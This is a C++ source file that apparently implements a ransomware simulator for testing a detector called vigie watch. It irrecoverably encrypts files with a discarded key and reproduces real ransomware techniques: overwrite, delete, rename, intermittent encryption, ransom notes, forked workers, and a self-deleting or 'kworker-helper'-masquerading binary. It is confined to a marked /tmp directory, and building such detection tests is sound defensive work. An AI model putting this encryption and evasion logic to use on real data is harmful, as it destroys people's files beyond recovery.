// vigie-ransim: a ransomware simulator for the vigie watch tests and benchmark.
//
// It encrypts files for real (AES-256-CTR with a random key that is thrown away, as ransomware
// does), with each behaviour vigie watch must catch: in-place overwrite, write-copy-then-
// delete, a copy renamed over the original, rename to one new extension, moves across directories,
// intermittent encryption (every 4th 4 KiB block), header-preserving encryption, writes through
// mmap, ransom notes in every directory, worker processes (same process group, or new sessions),
// slow encryption, a binary run from /tmp, deleted, or renamed after start, and a death in the
// middle of a file.
//
// Confinement: it only runs on a directory under /tmp (or $TMPDIR) that holds the marker file
// `.ransim-target` written by the test harness, and never follows symbolic links or leaves
// that directory. Progress goes to standard output with unbuffered writes, so a harness that
// kills it still reads how far it got: "first-write <epoch seconds>" just before the first
// encrypted byte, "touch <path>" for each file it opened to destroy, "done <n>" at the end.
#include <dirent.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

struct Options {
  std::string root;
  std::string mode = "inplace";
  std::string ext = "locked";
  std::string exe;  // "", tmp, deleted, renamed
  int workers = 1;
  bool setsid_workers = false;
  bool notes = false;
  int delay_ms = 0;
  int die_after = -1;  // die in the middle of file number N (0-based)
  int max_files = 1 << 30;
};

unsigned char g_key[32];
bool g_first_written = false;

void Say(const std::string& line) {
  std::string l = line + "\n";
  (void)!write(1, l.data(), l.size());
}

double Now() {
  timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

void FirstWrite() {
  if (g_first_written) return;
  g_first_written = true;
  char buf[64];
  snprintf(buf, sizeof buf, "first-write %.6f", Now());
  Say(buf);
}

// AES-256-CTR keystream applied to `data`, with the counter block derived from the offset, so
// any block of a file can be encrypted alone (intermittent mode).
void Crypt(unsigned char* data, size_t len, uint64_t offset) {
  unsigned char iv[16] = {0};
  uint64_t block = offset / 16;
  for (int i = 0; i < 8; ++i) iv[15 - i] = uint8_t(block >> (8 * i));
  EVP_CIPHER_CTX* ctx = EVP_CIPHER_CTX_new();
  EVP_EncryptInit_ex(ctx, EVP_aes_256_ctr(), nullptr, g_key, iv);
  std::vector<unsigned char> skip(offset % 16);
  int outl = 0;
  if (!skip.empty()) EVP_EncryptUpdate(ctx, skip.data(), &outl, skip.data(), int(skip.size()));
  EVP_EncryptUpdate(ctx, data, &outl, data, int(len));
  EVP_CIPHER_CTX_free(ctx);
}

bool ReadAll(int fd, std::string* out) {
  out->clear();
  char buf[65536];
  off_t off = 0;
  for (;;) {
    ssize_t n = pread(fd, buf, sizeof buf, off);
    if (n < 0) return false;
    if (n == 0) return true;
    out->append(buf, size_t(n));
    off += n;
  }
}

bool WriteAt(int fd, const std::string& data, off_t off, bool die_half) {
  size_t len = die_half ? data.size() / 2 : data.size();
  FirstWrite();
  size_t done = 0;
  while (done < len) {
    ssize_t n = pwrite(fd, data.data() + done, len - done, off + off_t(done));
    if (n <= 0) return false;
    done += size_t(n);
  }
  if (die_half) _exit(9);  // dies mid-file, without closing or cleaning anything
  return true;
}

std::string Encrypted(std::string data) {
  Crypt(reinterpret_cast<unsigned char*>(data.data()), data.size(), 0);
  return data;
}

// The content of `path`, read through a descriptor of its own.
bool ReadFile(const std::string& path, std::string* data) {
  int in = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (in < 0) return false;
  bool ok = ReadAll(in, data);
  close(in);
  return ok;
}

// Writes `data` encrypted to `to` (created, or truncated); `shown` is the name announced.
bool WriteEncrypted(const std::string& to, const std::string& data, const std::string& shown,
                    bool die_half) {
  int out = open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (out < 0) return false;
  Say("touch " + shown);
  bool ok = WriteAt(out, Encrypted(data), 0, die_half);
  close(out);
  return ok;
}

// Writes an encrypted copy of `from` to `to`; `shown` is the name announced.
bool EncryptedCopy(const std::string& from, const std::string& to, const std::string& shown,
                   bool die_half) {
  std::string data;
  return ReadFile(from, &data) && WriteEncrypted(to, data, shown, die_half);
}

// One file, according to the mode. Returns false when the file could not be touched.
bool Attack(const Options& o, const std::string& path, bool die_half,
            const std::vector<std::string>& dirs) {
  std::string p = path;
  if (o.mode == "move") {
    // Across directories first (into another existing directory of the tree), then encrypt in
    // place under the new name.
    std::string base = p.substr(p.rfind('/') + 1), here = p.substr(0, p.rfind('/'));
    std::string there = dirs[std::hash<std::string>{}(p) % dirs.size()];
    if (there == here) there = dirs[(std::hash<std::string>{}(p) + 1) % dirs.size()];
    std::string dest = there + "/" + base + "." + o.ext;
    if (rename(p.c_str(), dest.c_str()) != 0) return false;
    p = dest;
  }
  if (o.mode == "copy-delete") {
    return EncryptedCopy(p, p + "." + o.ext, path, die_half) && unlink(p.c_str()) == 0;
  }
  if (o.mode == "delete-copy") {
    // Reads the original, deletes it at once, then writes the encrypted copy.
    std::string data;
    return ReadFile(p, &data) && unlink(p.c_str()) == 0 &&
           WriteEncrypted(p + "." + o.ext, data, path, die_half);
  }
  if (o.mode == "readfirst") {
    // Reads the file through one descriptor, then truncates and writes it through another, as
    // many in-place encryptors do.
    return EncryptedCopy(p, p, path, die_half);
  }
  if (o.mode == "replace") {
    // Encrypted copy under a temporary name, then renamed over the original.
    std::string tmp = p + ".tmp~";
    return EncryptedCopy(p, tmp, path, die_half) && rename(tmp.c_str(), p.c_str()) == 0;
  }
  int fd = open(p.c_str(), O_RDWR | O_CLOEXEC);
  if (fd < 0) return false;
  Say("touch " + path);
  std::string data;
  if (!ReadAll(fd, &data)) {
    close(fd);
    return false;
  }
  bool ok = true;
  if (o.mode == "intermittent") {
    for (size_t off = 0; off < data.size() && ok; off += 4 * 4096) {
      std::string block = data.substr(off, 4096);
      Crypt(reinterpret_cast<unsigned char*>(block.data()), block.size(), off);
      ok = WriteAt(fd, block, off_t(off), die_half);
    }
  } else if (o.mode == "header") {
    size_t keep = std::min<size_t>(data.size(), 1024);
    std::string rest = data.substr(keep);
    Crypt(reinterpret_cast<unsigned char*>(rest.data()), rest.size(), keep);
    ok = WriteAt(fd, rest, off_t(keep), die_half);
  } else if (o.mode == "mmap") {
    if (!data.empty()) {
      void* m = mmap(nullptr, data.size(), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
      if (m == MAP_FAILED) {
        close(fd);
        return false;
      }
      FirstWrite();
      Crypt(static_cast<unsigned char*>(m), die_half ? data.size() / 2 : data.size(), 0);
      if (die_half) _exit(9);
      msync(m, data.size(), MS_SYNC);
      munmap(m, data.size());
    }
  } else {  // inplace, rename, move
    ok = WriteAt(fd, Encrypted(data), 0, die_half);
  }
  close(fd);
  if (ok && o.mode == "rename") ok = rename(p.c_str(), (p + "." + o.ext).c_str()) == 0;
  if (ok && o.mode == "reopen") {
    // Encrypted in place and closed, then opened again to append a footer (a key blob and a
    // marker, as several families leave at the end of each file).
    int again = open(p.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
    if (again < 0) return false;
    std::string footer = Encrypted(std::string(256, 'k')) + "RANSIM-END";
    ok = write(again, footer.data(), footer.size()) == ssize_t(footer.size());
    close(again);
  }
  return ok;
}

bool Confined(const std::string& root, std::string* real) {
  char buf[PATH_MAX];
  if (!realpath(root.c_str(), buf)) return false;
  *real = buf;
  std::string tmp = "/tmp/";
  if (const char* t = getenv("TMPDIR")) {
    char tb[PATH_MAX];
    if (realpath(t, tb)) tmp = std::string(tb) + "/";
  }
  if (real->compare(0, tmp.size(), tmp) != 0 && real->compare(0, 5, "/tmp/") != 0) return false;
  struct stat st;
  return lstat((*real + "/.ransim-target").c_str(), &st) == 0 && S_ISREG(st.st_mode);
}

void Walk(const std::string& root, std::vector<std::string>* files,
          std::vector<std::string>* dirs) {
  std::vector<std::string> stack{root};
  while (!stack.empty()) {
    std::string d = stack.back();
    stack.pop_back();
    dirs->push_back(d);
    DIR* dir = opendir(d.c_str());
    if (!dir) continue;
    std::vector<std::string> names;
    while (dirent* e = readdir(dir)) names.push_back(e->d_name);
    closedir(dir);
    std::sort(names.begin(), names.end());
    for (const std::string& n : names) {
      if (n == "." || n == ".." || n == ".ransim-target") continue;
      std::string p = d + "/" + n;
      struct stat st;
      if (lstat(p.c_str(), &st) != 0) continue;
      if (S_ISDIR(st.st_mode))
        stack.push_back(p);
      else if (S_ISREG(st.st_mode))
        files->push_back(p);
    }
  }
}

// Runs from a copy of the binary in /tmp: plainly, deleted, or renamed after start.
void Relocate(const Options& o, char** argv) {
  if (o.exe.empty()) return;
  if (getenv("RANSIM_STAGE")) {
    char self[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0) return;
    self[n] = 0;
    if (o.exe == "deleted") unlink(self);
    if (o.exe == "renamed") {
      std::string renamed =
          std::string(self).substr(0, std::string(self).rfind('/')) + "/kworker-helper";
      rename(self, renamed.c_str());
      Say("payload-file " + renamed);
    }
    return;
  }
  char dir[] = "/tmp/ransim-payload-XXXXXX";
  if (!mkdtemp(dir)) return;
  Say(std::string("payload-dir ") + dir);
  std::string copy = std::string(dir) + "/updater";
  int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  int out = open(copy.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0) (void)!write(out, buf, size_t(n));
  close(in);
  close(out);
  setenv("RANSIM_STAGE", "1", 1);
  execv(copy.c_str(), argv);
  Say("exec failed");
  _exit(3);
}

int Usage() {
  fprintf(
      stderr,
      "usage: vigie-ransim --root DIR [--mode inplace|copy-delete|delete-copy|replace|rename|move|"
      "intermittent|header|mmap|reopen|readfirst] [--ext EXT] [--workers N] [--setsid-workers] "
      "[--notes] "
      "[--delay-ms N] "
      "[--exe tmp|deleted|renamed] [--die-after N] [--max-files N]\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    auto next = [&]() -> std::string { return i + 1 < argc ? argv[++i] : ""; };
    if (a == "--root")
      o.root = next();
    else if (a == "--mode")
      o.mode = next();
    else if (a == "--ext")
      o.ext = next();
    else if (a == "--workers")
      o.workers = std::max(1, atoi(next().c_str()));
    else if (a == "--setsid-workers")
      o.setsid_workers = true;
    else if (a == "--notes")
      o.notes = true;
    else if (a == "--delay-ms")
      o.delay_ms = atoi(next().c_str());
    else if (a == "--exe")
      o.exe = next();
    else if (a == "--die-after")
      o.die_after = atoi(next().c_str());
    else if (a == "--max-files")
      o.max_files = atoi(next().c_str());
    else
      return Usage();
  }
  static const char* const kModes[] = {"inplace", "copy-delete", "delete-copy", "replace",
                                       "rename",  "move",        "reopen",      "intermittent",
                                       "header",  "mmap",        "readfirst"};
  if (o.root.empty() || std::find_if(std::begin(kModes), std::end(kModes), [&](const char* m) {
                          return o.mode == m;
                        }) == std::end(kModes))
    return Usage();
  std::string root;
  if (!Confined(o.root, &root)) {
    fprintf(stderr, "vigie-ransim: %s is not a prepared temporary directory; refusing\n",
            o.root.c_str());
    return 2;
  }
  Relocate(o, argv);
  RAND_bytes(g_key, sizeof g_key);
  std::vector<std::string> files, dirs;
  Walk(root, &files, &dirs);
  if (int(files.size()) > o.max_files) files.resize(size_t(o.max_files));
  if (o.notes) {
    std::string note =
        "YOUR FILES ARE ENCRYPTED (vigie test simulator).\nTo get them back, send 1 BTC to "
        "the address below and write to the contact on the .onion site.\n";
    for (const std::string& d : dirs) {
      int fd = open((d + "/README-RECOVER.txt").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
      if (fd >= 0) {
        (void)!write(fd, note.data(), note.size());
        close(fd);
      }
    }
  }
  std::vector<pid_t> kids;
  int me = 0;
  for (int w = 1; w < o.workers; ++w) {
    pid_t pid = fork();
    if (pid == 0) {
      if (o.setsid_workers) setsid();
      me = w;
      kids.clear();
      break;
    }
    if (pid > 0) kids.push_back(pid);
  }
  int done = 0, index = 0;
  for (size_t i = size_t(me); i < files.size(); i += size_t(o.workers), ++index) {
    bool die = o.die_after >= 0 && index == o.die_after;
    if (Attack(o, files[i], die, dirs)) done++;
    if (o.delay_ms > 0) usleep(useconds_t(o.delay_ms) * 1000);
  }
  for (pid_t k : kids) waitpid(k, nullptr, 0);
  Say("done " + std::to_string(done));
  return 0;
}
